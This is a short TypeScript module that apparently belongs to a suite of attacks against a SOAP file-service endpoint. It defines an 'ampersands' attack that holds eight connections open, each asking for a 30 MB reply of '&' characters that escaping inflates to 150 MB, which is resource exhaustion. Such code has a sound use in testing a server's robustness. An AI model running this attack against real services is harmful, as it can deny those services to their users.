import type { Attack } from '../attack.ts';
import { countStatus, files, keep, post } from '../wire.ts';

const message = post('/files/soap11', files('read', '<wish>ampersands 30</wish>'), 'Connection: close\r\n');

export const ampersands: Attack = {
  name: 'ampersands',
  says: 'eight connections, each asking for replies of 30 MB of &, which are 150 MB once escaped',
  run: async (target) => {
    await keep(8, target, (socket) => {
      countStatus(socket, target).write(message);
    });
    return [];
  },
};
